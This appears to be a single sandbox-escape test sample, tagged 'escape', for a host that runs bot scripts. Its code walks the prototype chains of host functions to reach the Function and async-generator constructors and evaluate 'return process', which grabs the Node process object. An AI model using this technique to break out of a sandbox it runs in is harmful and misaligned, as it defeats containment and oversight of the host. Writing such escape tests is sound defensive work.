// family: escape
// async generators of the host lead to its compiler
async function main (bot) {
  const kinds = [bot.chat, bot.dig, craftItem, Vec3, console.log, setTimeout]
  for (const kind of kinds) {
    for (let up = kind; up; up = Object.getPrototypeOf(up)) {
      for (const key of ['constructor', Symbol.asyncIterator, Symbol.iterator, 'next', 'throw', 'return']) {
        try { abuse(bot, up[key].constructor('return process')()) } catch {}
        try { abuse(bot, await up[key].constructor('return process')().next().value) } catch {}
      }
    }
  }
}
